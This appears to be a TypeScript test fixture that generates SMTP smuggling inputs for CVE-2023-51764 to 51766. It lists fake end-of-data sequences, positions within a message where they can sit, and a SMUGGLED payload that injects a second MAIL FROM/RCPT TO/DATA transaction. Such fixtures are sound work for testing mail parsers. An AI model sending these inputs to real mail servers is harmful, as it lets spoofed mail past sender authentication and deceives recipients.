/**
 * What has been taken for the end of a message somewhere and is none (RFC 5321 §4.1.1.4 knows CRLF.CRLF and nothing else):
 * every pair of line ends that some server accepted, or that some cleaning in between might make one of.
 * CVE-2023-51764 (Postfix), -51765 (Sendmail), -51766 (Exim), and the variants of the paper that found them.
 */
const ENDS = [
  '\n',
  '\r',
  '\r\n',
  '\r\r\n',
  '\r\n\n',
  '\n\r',
  '\n\n',
  '\r\r',
  '\r\0\n',
  '\r\n\0',
  '\0\r\n',
  '\0\n',
  '\n\0',
  '\r ',
  '\r\n ',
  '\r\n\t',
  '\v',
  '\f',
  '\x85',
  '\x8d\x8a',
  '',
] as const;

/** With one dot, with dots that are stuffed already, and with none. */
const DOTS = ['.', '..', '', '.\0', '\0.'] as const;

/** Each as it stands behind some text and in front of some; none of them holds CRLF.CRLF. */
export const fakes: readonly string[] = [
  ...new Set(
    ENDS.flatMap((before) => DOTS.flatMap((dot) => ENDS.map((after) => `${before}${dot}${after}`))).filter(
      (fake) => !`x${fake}M`.includes('\r\n.\r\n'),
    ),
  ),
];

/** What an attacker puts behind his fake: read as commands it is a second message. */
export const SMUGGLED =
  'MAIL FROM:<evil@example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: smuggled\r\n\r\nevil';

/** Where a fake stands. The end of data is not part of it. */
export const places: Readonly<Record<string, (fake: string) => string>> = {
  'as the first bytes': (fake) => `${fake}${SMUGGLED}`,
  'in a header field': (fake) => `Subject: x${fake}${SMUGGLED}`,
  'right behind the header': (fake) => `Subject: x\r\n\r\n${fake}${SMUGGLED}`,
  'in the body': (fake) => `Subject: x\r\n\r\nfirst${fake}${SMUGGLED}`,
  'as the last bytes': (fake) => `Subject: x\r\n\r\nfirst${fake}`,
};

/** Whatever precedes the first CRLF.CRLF is the message, its last CRLF included (RFC 5321 §4.5.2). */
export const END = '\r\n.\r\n';
